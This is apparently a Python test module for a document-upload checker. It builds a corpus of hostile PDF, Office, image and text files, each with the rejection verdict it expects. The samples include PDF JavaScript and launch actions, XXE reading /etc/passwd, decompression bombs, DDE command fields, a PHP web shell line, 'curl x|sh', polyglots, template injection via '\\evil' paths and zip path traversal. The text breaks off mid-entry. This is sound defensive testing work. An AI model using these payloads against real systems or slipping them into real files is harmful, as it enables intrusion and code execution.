"""The hostile corpus: every kind of file the checks were written against, made in code, with its declared verdict.

`harap` None = the file is stored. Of those some are INERT: they carry something that does nothing as we serve it
(always as an attachment, never rendered), and refusing it would refuse honest files too: docs/adr/0012.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from random import Random

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream

from berkas.periksa.putusan import Alasan
from tests.berkas import contoh

MIB = 1024 * 1024
KENARI = "http://127.0.0.1:9999/"  # nobody may ever fetch this
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
TIDAK = Alasan.TIDAK_SAH


@dataclass(frozen=True)
class Kasus:
    """`nama` as it is sent; `kunci` names the case; `inert`: stored although something odd is inside."""

    kunci: str
    nama: str
    isi: Callable[[], bytes]
    harap: Alasan | None = None
    inert: bool = False


# --- PDF ------------------------------------------------------------------------------------------------------------


def _aksi(**isi: object) -> Dictionary:
    return Dictionary(**{k: Name(v) if isinstance(v, str) and v.startswith("/") else v for k, v in isi.items()})


def _buka(aksi: Dictionary) -> Callable[[], bytes]:
    """A PDF that does something when it is opened."""
    return lambda: contoh.pdf(ubah=lambda d: d.Root.__setitem__("/OpenAction", aksi))


def _klik(aksi: Dictionary) -> Callable[[], bytes]:
    """A PDF that does something when a link on its page is clicked."""
    tautan = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=aksi)

    def ubah(d: pikepdf.Pdf) -> None:
        d.pages[0].obj["/Annots"] = Array([tautan])

    return lambda: contoh.pdf(ubah=ubah)


def _lampiran(nama: str, isi: bytes) -> Callable[[], bytes]:
    return lambda: contoh.pdf(ubah=lambda d: d.attachments.__setitem__(nama, isi))


def _berantai() -> bytes:
    lanjut = _aksi(S="/GoTo", Next=_aksi(S="/SubmitForm", F=KENARI))
    return _buka(lanjut)()


def _skrip_terselubung() -> bytes:
    def ubah(d: pikepdf.Pdf) -> None:
        d.Root["/OpenAction"] = _aksi(S="/JavaScript", JS="app.alert(1)")

    polos = contoh.pdf(ubah=ubah, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    return polos.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4a#53")


def _skrip_mampat() -> bytes:
    def ubah(d: pikepdf.Pdf) -> None:
        d.Root["/Names"] = Dictionary(JavaScript=Dictionary(Names=["a", _aksi(S="/JavaScript", JS="1")]))

    return contoh.pdf(ubah=ubah, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _xfa(d: pikepdf.Pdf) -> None:
    d.Root["/AcroForm"] = Dictionary(XFA=Stream(d, b"<xdp:xdp/>"), Fields=Array([]))


def _aliran(d: pikepdf.Pdf, isi: bytes, **kamus: object) -> None:
    """Page contents with these raw bytes and this dictionary."""
    aliran = Stream(d, b"")
    aliran.write(isi, filter=kamus.get("saring"))
    d.pages[0].obj["/Contents"] = d.make_indirect(aliran)


def pdf_mampat(lapis: int, mib: int) -> bytes:
    """A page whose contents are `mib` MiB of blanks packed `lapis` times."""
    isi = b" " * (mib * MIB)
    for _ in range(lapis):
        isi = zlib.compress(isi)
    saring = Array([Name.FlateDecode] * lapis) if lapis > 1 else Name.FlateDecode
    return contoh.pdf(ubah=lambda d: _aliran(d, isi, saring=saring), recompress_flate=False)


def pdf_aliran_objek(mib: int) -> bytes:
    """A PDF with one object stream that unfolds to `mib` MiB inside the parser."""
    pemampat = zlib.compressobj(9)
    mentah = pemampat.compress(b"1 0 <</A(")
    for _ in range(mib):
        mentah += pemampat.compress(b" " * MIB)
    mentah += pemampat.compress(b")>>") + pemampat.flush()
    isi = {
        2: b"<</Type/Catalog/Pages 3 0 R>>",
        3: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
        4: b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]/Resources<<>>>>",
        5: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(mentah), mentah),
    }
    keluar, letak = b"%PDF-1.5\n", {}
    for nomor, objek in isi.items():
        letak[nomor] = len(keluar)
        keluar += b"%d 0 obj\n%s\nendobj\n" % (nomor, objek)
    letak[6] = len(keluar)
    baris = b"\0\0\0\0\xff" + b"\2\0\0\5\0" + b"".join(b"\1" + letak[n].to_bytes(3, "big") + b"\0" for n in range(2, 7))
    kamus = b"<</Type/XRef/Size 7/Root 2 0 R/W[1 3 1]/Length %d>>" % len(baris)
    return keluar + b"6 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (kamus, baris, letak[6])


def _banyak_objek() -> bytes:
    """400,000 objects in a few megabytes."""
    badan = b"".join(b"%d 0 obj 1 endobj\n" % n for n in range(10, 400_010))
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        + (b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n" + badan + b"trailer<</Root 1 0 R>>\n%%EOF\n")
    )


BERSARANG = b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000 + b"]" * 200_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def _tanda_tangan(d: pikepdf.Pdf) -> None:
    """What a signed PDF looks like to a parser: a signature field with /ByteRange and /Contents."""
    ttd = d.make_indirect(
        Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), ByteRange=[0, 1, 2, 3], Contents=b"\x30\x82")
    )
    medan = d.make_indirect(Dictionary(FT=Name.Sig, T="ttd", V=ttd))
    d.Root["/AcroForm"] = Dictionary(SigFlags=3, Fields=Array([medan]))


def _formulir(d: pikepdf.Pdf) -> None:
    """An ordinary form: a text field, and a button that would send it when somebody presses it."""
    kotak = d.make_indirect(Dictionary(FT=Name.Tx, T="nama", V="", Subtype=Name.Widget, Rect=[0, 0, 9, 9]))
    tombol = d.make_indirect(
        Dictionary(FT=Name.Btn, T="kirim", Subtype=Name.Widget, Rect=[0, 0, 9, 9], A=_aksi(S="/SubmitForm", F=KENARI))
    )
    d.Root["/AcroForm"] = Dictionary(Fields=Array([kotak, tombol]))


def _sandi(pemakai: str) -> Callable[[], bytes]:
    return lambda: contoh.pdf(encryption=pikepdf.Encryption(owner="pemilik", user=pemakai))


def _halaman_kosong_600_dpi(d: pikepdf.Pdf) -> None:
    """A scanned blank page: one colour packs a thousandfold and is no bomb."""
    gambar = Stream(d, b"")
    gambar.write(zlib.compress(b"\xff" * (4960 * 7016 * 3), 1), filter=Name.FlateDecode)
    for k, v in {"/Subtype": Name.Image, "/Width": 4960, "/Height": 7016, "/BitsPerComponent": 8}.items():
        gambar[k] = v
    d.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(G=d.make_indirect(gambar)))


def _tambah_versi() -> bytes:
    """An incremental update, as signing software writes it: the old bytes stay, new ones follow."""
    awal = contoh.pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable)
    letak = int(awal.rpartition(b"startxref")[2].split()[0])
    objek = len(awal)
    baru = b"900 0 obj<</Type/Kosong>>endobj\n"
    xref = objek + len(baru)
    ekor = b"xref\n900 1\n%010d 00000 n \ntrailer<</Size 901/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    return awal + baru + ekor % (objek, letak, xref)


# --- OOXML ----------------------------------------------------------------------------------------------------------

_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rels(jenis: str, target: str, *, pengodean: str = "utf-8") -> bytes:
    """A relationships part with one external target."""
    teks = (
        f'<?xml version="1.0" encoding="{pengodean}"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{_RELS}/{jenis}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return teks.encode(pengodean)


def _kata(isi: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="w"><w:p>{isi}</w:p></w:document>'.encode()


def _dde_terpotong() -> bytes:
    """One instruction in three runs, as an attacker writes it against a search for the word."""
    potong = "".join(f"<w:instrText>{t}</w:instrText>" for t in (" D", "DE", 'AUTO "c"'))
    return _kata(f'<w:fldChar w:fldCharType="begin"/>{potong}<w:fldChar w:fldCharType="end"/>')


def _docx(**bagian: bytes) -> Callable[[], bytes]:
    """A DOCX with further parts; `a__b___c` stands for the name `a/b.c`."""
    return lambda: contoh.ooxml("docx", {_nama(k): v for k, v in bagian.items()})


def _xlsx(**bagian: bytes) -> Callable[[], bytes]:
    return lambda: contoh.ooxml("xlsx", {_nama(k): v for k, v in bagian.items()})


def _nama(kunci: str) -> str:
    return kunci.replace("___", ".").replace("__", "/").replace("7", "_")


def _kaitan(jenis: str, target: str, bagian: str = "word/_rels/document.xml.rels") -> Callable[[], bytes]:
    jenis_berkas = "xlsx" if bagian.startswith("xl/") else "pptx" if bagian.startswith("ppt/") else "docx"
    return lambda: contoh.ooxml(jenis_berkas, {bagian: rels(jenis, target)})


def _lembar_bom(mib: int) -> bytes:
    return contoh.ooxml("xlsx", {"xl/worksheets/sheet1.xml": b"<a>" + b" " * (mib * MIB) + b"</a>"})


def _tawa() -> bytes:
    """Billion laughs."""
    entitas = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">{entitas}]><l>&l9;</l>'.encode()


def _xxe(tujuan: str) -> bytes:
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "{tujuan}">]><a>&x;</a>'.encode()


def _paket_ole(label: str) -> bytes:
    """An OLE container with a packed file, as Insert > Object > Package writes it."""
    isi = label.encode() + b"\0C:\\Users\\a\\" + label.encode() + b"\0" + b"\0\0\x03\0" + b"MZ\x90\0"
    return contoh.ole("\x01Ole10Native".encode("utf-16-le") + b"\0" * 64 + isi)


def _kembar_nama() -> bytes:
    keluar = io.BytesIO(contoh.ooxml("docx"))
    with zipfile.ZipFile(keluar, "a") as arsip:
        arsip.writestr("WORD/Document.xml", b"<a/>")
    return keluar.getvalue()


def _zip_berkata_sandi() -> bytes:
    """The flag of an encrypted member."""
    isi = bytearray(contoh.ooxml("docx"))
    letak = isi.rfind(b"PK\x01\x02")
    isi[letak + 8] |= 1
    return bytes(isi)


def _ukuran_bohong() -> bytes:
    """A member that unpacks to more than its entry says."""
    isi = bytearray(contoh.ooxml("docx", {"word/media/x.bin": b"z" * 100_000}))
    letak = isi.find(b"word/media/x.bin", isi.find(b"PK\x01\x02")) - 46
    isi[letak + 24 : letak + 28] = struct.pack("<I", 10)
    return bytes(isi)


# --- pictures, text, film -------------------------------------------------------------------------------------------


def jpeg_exif(isi: bytes) -> bytes:
    """A photograph with an EXIF block around `isi`."""
    gambar = contoh.gambar("JPEG", (32, 32))
    badan = b"Exif\0\0" + isi
    return gambar[:2] + b"\xff\xe1" + struct.pack(">H", len(badan) + 2) + badan + gambar[2:]


def jpeg_mpo() -> bytes:
    """Two pictures in one file, as phones write depth and HDR."""
    return contoh.gambar("JPEG", (64, 48)) + contoh.gambar("JPEG", (16, 12), "blue")


def png_bom() -> bytes:
    """A small picture whose pixel stream goes on for 300 MiB."""

    def potong(jenis: bytes, isi: bytes) -> bytes:
        return struct.pack(">I", len(isi)) + jenis + isi + struct.pack(">I", zlib.crc32(jenis + isi))

    kepala = struct.pack(">IIBBBBB", 10, 10, 8, 2, 0, 0, 0)
    pemampat = zlib.compressobj(9)
    badan = b"".join(pemampat.compress(bytes(MIB)) for _ in range(300)) + pemampat.flush()
    return b"\x89PNG\r\n\x1a\n" + potong(b"IHDR", kepala) + potong(b"IDAT", badan) + potong(b"IEND", b"")


def _webp_raksasa() -> bytes:
    kanvas = b"\0\0\0\0" + (16383).to_bytes(3, "little") * 2
    badan = b"WEBPVP8X" + struct.pack("<I", 10) + kanvas
    return b"RIFF" + struct.pack("<I", len(badan)) + badan


def _jpeg_pindaian() -> bytes:
    """A progressive picture that says 1,000 scans."""
    gambar = contoh.gambar("JPEG", (32, 32))
    letak = gambar.index(b"\xff\xda")
    panjang = int.from_bytes(gambar[letak + 2 : letak + 4], "big")
    kepala = gambar[letak : letak + 2 + panjang]
    return gambar[:letak] + kepala * 1000 + gambar[letak:]


MHT = b"From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\tboundary=x\r\n\r\n"
HTML = b"<html><script>alert(document.domain)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
XHTML = b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'
ZIP_ISI = {"jahat.js": b"alert(1)"}

# --- the cases ------------------------------------------------------------------------------------------------------


def _k(
    kunci: str, nama: str, isi: bytes | Callable[[], bytes], harap: Alasan | None = None, *, inert: bool = False
) -> Kasus:
    return Kasus(kunci, nama, isi if callable(isi) else lambda: isi, harap, inert)


KASUS: tuple[Kasus, ...] = (
    # the extension says one thing, the bytes another
    _k("salah-exe-pdf", "SK.pdf", contoh.EXE, TIDAK),
    _k("salah-html-pdf", "SK.pdf", HTML, TIDAK),
    _k("salah-png-jpg", "foto.jpg", lambda: contoh.gambar("PNG"), TIDAK),
    _k("salah-jpg-png", "foto.png", lambda: contoh.gambar("JPEG"), TIDAK),
    _k("salah-gif-webp", "foto.webp", b"GIF89a" + b"\0" * 40, TIDAK),
    _k("salah-pdf-docx", "surat.docx", contoh.pdf, TIDAK),
    _k("salah-zip-docx", "surat.docx", lambda: contoh.zip_biasa({"a.txt": b"b"}), TIDAK),
    _k("salah-xlsx-docx", "surat.docx", lambda: contoh.ooxml("xlsx"), TIDAK),
    _k("salah-doc-docx", "surat.docx", contoh.ole, Alasan.FORMAT_LAMA),
    _k("salah-svg-png", "logo.png", SVG, TIDAK),
    _k("salah-svg-txt", "logo.txt", SVG, TIDAK),
    _k("salah-html-txt", "hal.txt", b"\n\t " + HTML, TIDAK),
    _k("salah-xhtml-txt", "hal.txt", XHTML, TIDAK),
    _k("salah-mht-txt", "hal.txt", MHT, TIDAK),
    _k("salah-swf-txt", "film.txt", b"CWS\x0b" + b"\0" * 30, TIDAK),
    _k("salah-sh-csv", "data.csv", b"#!/bin/sh\ncurl x|sh\n", TIDAK),
    _k("salah-php-txt", "a.txt", b"<?php system($_GET[0]);", TIDAK),
    _k("salah-rtf-txt", "a.txt", b"{\\rtf1\\object}", TIDAK),
    _k("salah-bat-txt", "a.txt", b"@echo off\r\ndel *\r\n", TIDAK),
    _k("salah-nul-csv", "data.csv", b"a;b\0c\n", TIDAK),
    _k("salah-utf16-txt", "a.txt", "teks".encode("utf-16"), TIDAK),
    _k("salah-gif-js-txt", "a.txt", b"GIF89a/*" + b" " * 20 + b"*/=1;alert(1)", TIDAK),
    _k("salah-mov-mp4", "rapat.mp4", lambda: contoh.mp4(b"qt  "), TIDAK),
    _k("salah-heic-mp4", "rapat.mp4", lambda: contoh.mp4(b"heic"), TIDAK),
    _k("tipe-exe", "a.exe", contoh.EXE, Alasan.TIPE),
    _k("tipe-svg", "a.svg", SVG, Alasan.TIPE),
    _k("tipe-html", "a.html", HTML, Alasan.TIPE),
    _k("tipe-ganda", "SK.pdf.exe", contoh.pdf, Alasan.TIPE),
    _k("tipe-tanpa", "SK", contoh.pdf, Alasan.TIPE),
    _k("tipe-docm", "a.docm", lambda: contoh.ooxml("docx"), Alasan.MAKRO),
    _k("tipe-zip", "a.zip", lambda: contoh.zip_biasa(ZIP_ISI), Alasan.ARSIP),
    _k("kosong", "SK.pdf", b"", Alasan.KOSONG),
    # two files in one
    _k("ganda-jpg-html", "foto.jpg", lambda: contoh.gambar("JPEG") + HTML, TIDAK),
    _k("ganda-jpg-zip", "foto.jpg", lambda: contoh.gambar("JPEG") + contoh.zip_biasa(ZIP_ISI), TIDAK),
    _k("ganda-png-zip", "foto.png", lambda: contoh.gambar("PNG") + contoh.zip_biasa(ZIP_ISI), TIDAK),
    _k("ganda-png-php", "foto.png", lambda: contoh.gambar("PNG") + b"<?php system(0);", TIDAK),
    _k("ganda-webp-zip", "foto.webp", lambda: contoh.gambar("WEBP") + contoh.zip_biasa(ZIP_ISI), TIDAK),
    _k("ganda-pdf-zip", "SK.pdf", lambda: contoh.pdf() + contoh.zip_biasa(ZIP_ISI), TIDAK),
    _k("ganda-pdf-html", "SK.pdf", lambda: contoh.pdf() + HTML, TIDAK),
    _k("ganda-pdf-exe", "SK.pdf", lambda: contoh.EXE + contoh.pdf(), TIDAK),
    _k("ganda-pdf-lambat", "SK.pdf", lambda: b"GIF89a" + b"x" * 900 + contoh.pdf(), TIDAK),
    _k("ganda-docx-awal", "surat.docx", lambda: HTML + contoh.ooxml("docx"), TIDAK),
    _k("ganda-docx-akhir", "surat.docx", lambda: contoh.ooxml("docx") + HTML, TIDAK),
    _k("ganda-docx-sela", "surat.docx", lambda: b"PK\x03\x04" + b"x" * 60 + contoh.ooxml("docx"), TIDAK),
    _k("ganda-mp4-zip", "rapat.mp4", lambda: contoh.mp4() + contoh._kotak(b"free", contoh.zip_biasa(ZIP_ISI)), TIDAK),
    # PDF
    _k("pdf-terpotong", "SK.pdf", lambda: contoh.pdf(5)[:-40], TIDAK),
    _k("pdf-kepala", "SK.pdf", b"%PDF-1.7\n%%EOF", TIDAK),
    _k("pdf-tanpa-halaman", "SK.pdf", lambda: contoh.pdf(0), TIDAK),
    _k("pdf-bersarang", "SK.pdf", BERSARANG, TIDAK),
    _k("pdf-terkunci", "SK.pdf", _sandi("rahasia"), Alasan.KATA_SANDI),
    _k("pdf-js", "SK.pdf", _buka(_aksi(S="/JavaScript", JS="app.alert(1)")), Alasan.SKRIP),
    _k("pdf-js-tautan", "SK.pdf", _klik(_aksi(S="/JavaScript", JS="app.alert(1)")), Alasan.SKRIP),
    _k("pdf-js-heks", "SK.pdf", _skrip_terselubung, Alasan.SKRIP),
    _k("pdf-js-mampat", "SK.pdf", _skrip_mampat, Alasan.SKRIP),
    _k("pdf-launch", "SK.pdf", _buka(_aksi(S="/Launch", F="cmd.exe")), Alasan.PELUNCUR),
    _k("pdf-launch-tautan", "SK.pdf", _klik(_aksi(S="/Launch", F="cmd.exe")), Alasan.PELUNCUR),
    _k("pdf-submit", "SK.pdf", _buka(_aksi(S="/SubmitForm", F=KENARI)), Alasan.OTOMATIS),
    _k("pdf-berantai", "SK.pdf", _berantai, Alasan.OTOMATIS),
    _k("pdf-gotor", "SK.pdf", _buka(_aksi(S="/GoToR", F="\\\\127.0.0.1\\a\\b.pdf")), Alasan.OTOMATIS),
    _k("pdf-gotoe", "SK.pdf", _buka(_aksi(S="/GoToE")), Alasan.OTOMATIS),
    _k("pdf-uri-buka", "SK.pdf", _buka(_aksi(S="/URI", URI=KENARI)), Alasan.OTOMATIS),
    _k("pdf-impor", "SK.pdf", _buka(_aksi(S="/ImportData", F=KENARI)), Alasan.OTOMATIS),
    _k("pdf-xfa", "SK.pdf", lambda: contoh.pdf(ubah=_xfa), Alasan.XFA),
    _k("pdf-lampiran-exe", "SK.pdf", _lampiran("a.exe", b"abc"), Alasan.LAMPIRAN),
    _k("pdf-lampiran-titik", "SK.pdf", _lampiran("a.exe. ", b"abc"), Alasan.LAMPIRAN),
    _k("pdf-lampiran-samar", "SK.pdf", _lampiran("a.txt", contoh.EXE), Alasan.LAMPIRAN),
    _k("pdf-lampiran-html", "SK.pdf", _lampiran("a.html", HTML), Alasan.LAMPIRAN),
    _k("pdf-lampiran-swf", "SK.pdf", _lampiran("a.dat", b"CWS\x0b\0"), Alasan.LAMPIRAN),
    _k("pdf-flate-dua", "SK.pdf", lambda: pdf_mampat(2, 80), Alasan.TERLALU_RUMIT),
    _k("pdf-flate-tiga", "SK.pdf", lambda: pdf_mampat(3, 80), Alasan.TERLALU_RUMIT),
    _k("pdf-flate-satu", "SK.pdf", lambda: pdf_mampat(1, 80), Alasan.TERLALU_RUMIT),
    _k("pdf-objek-mengembang", "SK.pdf", lambda: pdf_aliran_objek(400), Alasan.TERLALU_RUMIT),
    _k("pdf-banyak-objek", "SK.pdf", _banyak_objek, Alasan.TERLALU_RUMIT),
    # pictures
    _k("gambar-raksasa", "foto.png", contoh.png_raksasa, Alasan.PIKSEL),
    _k("gambar-raksasa-webp", "foto.webp", _webp_raksasa, Alasan.PIKSEL),
    _k("gambar-bom", "foto.png", png_bom, Alasan.TERLALU_RUMIT),
    _k("gambar-pindaian", "foto.jpg", _jpeg_pindaian, Alasan.TERLALU_RUMIT),
    _k("gambar-terpotong-jpg", "foto.jpg", lambda: contoh.gambar("JPEG", (600, 600))[:900], TIDAK),
    _k("gambar-terpotong-png", "foto.png", lambda: contoh.gambar("PNG", (600, 600))[:-30], TIDAK),
    _k("gambar-terpotong-webp", "foto.webp", lambda: contoh.gambar("WEBP", (600, 600))[:-10], TIDAK),
    _k("gambar-crc", "foto.png", lambda: contoh.gambar("PNG").replace(b"IDAT", b"IDAU", 1), TIDAK),
    _k("film-terpotong", "rapat.mp4", lambda: contoh.mp4()[:-5], TIDAK),
    _k("film-tanpa-moov", "rapat.mp4", lambda: contoh.mp4(moov=False), TIDAK),
    # Office
    _k("ooxml-tawa", "surat.docx", lambda: contoh.ooxml("docx", utama=_tawa()), Alasan.DTD),
    _k("ooxml-xxe-berkas", "surat.docx", lambda: contoh.ooxml("docx", utama=_xxe("file:///etc/passwd")), Alasan.DTD),
    _k("ooxml-xxe-http", "tabel.xlsx", lambda: contoh.ooxml("xlsx", utama=_xxe(KENARI)), Alasan.DTD),
    _k(
        "ooxml-xxe-utf16",
        "surat.docx",
        lambda: contoh.ooxml("docx", utama=_xxe(KENARI).decode().encode("utf-16")),
        Alasan.DTD,
    ),
    _k(
        "ooxml-dtd-utf16-rels",
        "surat.docx",
        _docx(word__7rels__a___rels=_xxe(KENARI).decode().encode("utf-16-be")),
        Alasan.DTD,
    ),
    _k(
        "ooxml-utf7",
        "surat.docx",
        lambda: contoh.ooxml("docx", utama=b'<?xml version="1.0" encoding="UTF-7"?><a/>'),
        TIDAK,
    ),
    _k(
        "ooxml-templat-luar",
        "surat.docx",
        _kaitan("attachedTemplate", KENARI, "word/_rels/settings.xml.rels"),
        Alasan.RUJUKAN,
    ),
    _k(
        "ooxml-templat-unc",
        "surat.docx",
        _kaitan("attachedTemplate", "\\\\evil\\s\\t.dotm", "word/_rels/settings.xml.rels"),
        Alasan.RUJUKAN,
    ),
    _k(
        "ooxml-templat-unc-file",
        "surat.docx",
        _kaitan("attachedTemplate", "file://evil/s/t.dotm", "word/_rels/settings.xml.rels"),
        Alasan.RUJUKAN,
    ),
    _k("ooxml-objek-mhtml", "surat.docx", _kaitan("oleObject", f"mhtml:{KENARI}a!x-usc:{KENARI}a"), Alasan.RUJUKAN),
    _k("ooxml-gambar-luar", "surat.docx", _kaitan("image", f"{KENARI}a.png"), Alasan.RUJUKAN),
    _k(
        "ooxml-bingkai-luar",
        "paparan.pptx",
        _kaitan("frame", KENARI, "ppt/slides/_rels/slide1.xml.rels"),
        Alasan.RUJUKAN,
    ),
    _k(
        "ooxml-buku-luar",
        "tabel.xlsx",
        _kaitan("externalLinkPath", f"{KENARI}b.xlsx", "xl/externalLinks/_rels/e.xml.rels"),
        Alasan.RUJUKAN,
    ),
    _k(
        "ooxml-rels-utf16",
        "surat.docx",
        _docx(word__7rels__a___rels=rels("image", KENARI, pengodean="utf-16")),
        Alasan.RUJUKAN,
    ),
    _k(
        "ooxml-dde",
        "surat.docx",
        lambda: contoh.ooxml(
            "docx",
            utama=_kata(
                '<w:r><w:instrText>DDEAUTO c:\\\\a cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
            ),
        ),
        Alasan.PELUNCUR,
    ),
    _k("ooxml-dde-terpotong", "surat.docx", lambda: contoh.ooxml("docx", utama=_dde_terpotong()), Alasan.PELUNCUR),
    _k(
        "ooxml-dde-simpel",
        "surat.docx",
        lambda: contoh.ooxml("docx", utama=_kata('<w:fldSimple w:instr="DDE cmd /c"/>')),
        Alasan.PELUNCUR,
    ),
    _k(
        "ooxml-dde-tautan",
        "tabel.xlsx",
        _xlsx(
            xl__externalLinks__e___xml=b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
        ),
        Alasan.PELUNCUR,
    ),
    _k(
        "ooxml-dde-rumus",
        "tabel.xlsx",
        _xlsx(xl__worksheets__s___xml=b"<s><c><f>cmd|'/c calc'!A0</f></c></s>"),
        Alasan.PELUNCUR,
    ),
    _k(
        "ooxml-ole-exe",
        "surat.docx",
        lambda: contoh.ooxml("docx", {"word/embeddings/oleObject1.bin": _paket_ole("a.exe")}),
        Alasan.OBJEK,
    ),
    _k("ooxml-ole-polos", "surat.docx", _docx(word__embeddings__o___bin=contoh.EXE), Alasan.OBJEK),
    _k("ooxml-activex", "surat.docx", _docx(word__activeX__activeX1___xml=b"<a/>"), Alasan.OBJEK),
    _k("ooxml-vba", "surat.docx", _docx(word__vbaProject___bin=b"x"), Alasan.MAKRO),
    _k(
        "ooxml-vba-samar",
        "surat.docx",
        lambda: contoh.ooxml("docx", tipe_isi="application/vnd.ms-word.document.macroEnabled.main+xml"),
        Alasan.MAKRO,
    ),
    _k(
        "ooxml-vba-ole",
        "surat.docx",
        lambda: contoh.ooxml("docx", {"word/embeddings/o.bin": contoh.ole("_VBA_PROJECT".encode("utf-16-le"))}),
        Alasan.MAKRO,
    ),
    _k(
        "ooxml-vba-dalam",
        "surat.docx",
        lambda: contoh.ooxml("docx", {"word/embeddings/b.xlsx": contoh.ooxml("xlsx", {"xl/vbaProject.bin": b"x"})}),
        Alasan.MAKRO,
    ),
    _k("ooxml-xlm", "tabel.xlsx", _xlsx(xl__macrosheets__sheet1___xml=b"<a/>"), Alasan.MAKRO),
    _k("ooxml-keluar", "surat.docx", lambda: contoh.ooxml("docx", {"../../etc/cron": b"x"}), TIDAK),
    _k("ooxml-keluar-mutlak", "surat.docx", lambda: contoh.ooxml("docx", {"/etc/cron": b"x"}), TIDAK),
    _k("ooxml-tautan-simbolik", "surat.docx", contoh.zip_tautan, TIDAK),
    _k("ooxml-kembar", "surat.docx", _kembar_nama, TIDAK),
    _k("ooxml-bohong", "surat.docx", _ukuran_bohong, TIDAK),
    _k("ooxml-sandi-zip", "surat.docx", _zip_berkata_sandi, Alasan.KATA_SANDI),
    _k("ooxml-sandi", "surat.docx", lambda: contoh.ole("EncryptedPackage".encode("utf-16-le")), Alasan.KATA_SANDI),
    _k("ooxml-bom", "tabel.xlsx", lambda: _lembar_bom(30), Alasan.TERLALU_RUMIT),
    _k("ooxml-bom-300", "tabel.xlsx", lambda: _lembar_bom(300), Alasan.TERLALU_RUMIT),
    _k(
        "ooxml-50000",
        "surat.docx",
        lambda: contoh.ooxml("docx", {f"word/{n}.x": b"" for n in range(50_000)}),
        Alasan.TERLALU_RUMIT,
    ),
    _k("ooxml-terpotong", "surat.docx", lambda: contoh.ooxml("docx")[:-30], TIDAK),
    # stored, although something odd is inside
    _k("inert-eicar", "uji.txt", EICAR, inert=True),
    _k("inert-eicar-docx", "uji.docx", lambda: contoh.ooxml("docx", {"word/media/e.com": EICAR}), inert=True),
    _k("inert-eicar-pdf", "uji.pdf", _lampiran("e.txt", EICAR), inert=True),
    _k("inert-rumus-csv", "data.csv", b"=cmd|' /C calc'!A0\n", inert=True),
    _k("inert-php-exif", "foto.jpg", lambda: jpeg_exif(b"<?php system($_GET[0]); ?>"), inert=True),
    _k("inert-html-dalam-pdf", "SK.pdf", lambda: contoh.pdf(ubah=lambda d: _aliran(d, HTML)), inert=True),
    _k("inert-pdf-formulir", "SK.pdf", lambda: contoh.pdf(ubah=_formulir), inert=True),
    _k("inert-pdf-gotor-klik", "SK.pdf", _klik(_aksi(S="/GoToR", F="lampiran.pdf")), inert=True),
    _k("inert-pdf-uri-berkas", "SK.pdf", _klik(_aksi(S="/URI", URI="file:///C:/Users/a/b.docx")), inert=True),
    _k(
        "inert-templat-lokal",
        "surat.docx",
        _kaitan("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm", "word/_rels/settings.xml.rels"),
        inert=True,
    ),
    _k(
        "inert-buku-lokal",
        "tabel.xlsx",
        _kaitan("externalLinkPath", "file:///D:\\rekap\\b.xlsx", "xl/externalLinks/_rels/e.xml.rels"),
        inert=True,
    ),
    _k("inert-altchunk", "surat.docx", _docx(word__afchunk___mht=MHT), inert=True),
    # controls: what honest people send
    _k("baik-pdf", "SK.pdf", lambda: contoh.pdf(3)),
    _k("baik-pdf-tanda-tangan", "SK.pdf", lambda: contoh.pdf(ubah=_tanda_tangan)),
    _k("baik-pdf-tambahan", "SK.pdf", _tambah_versi),
    _k("baik-pdf-kunci-pemilik", "SK.pdf", _sandi("")),
    _k("baik-pdf-objek-mampat", "SK.pdf", lambda: contoh.pdf(9, object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    _k("baik-pdf-tautan", "SK.pdf", _klik(_aksi(S="/URI", URI="https://contoh.invalid/"))),
    _k("baik-pdf-daftar-isi", "SK.pdf", _buka(_aksi(S="/GoTo"))),
    _k("baik-pdf-a3-xml", "SK.pdf", _lampiran("faktur.xml", b"<a/>")),
    _k(
        "baik-pdf-lampiran-docx",
        "SK.pdf",
        lambda: contoh.pdf(ubah=lambda d: d.attachments.__setitem__("s.docx", contoh.ooxml("docx"))),
    ),
    _k(
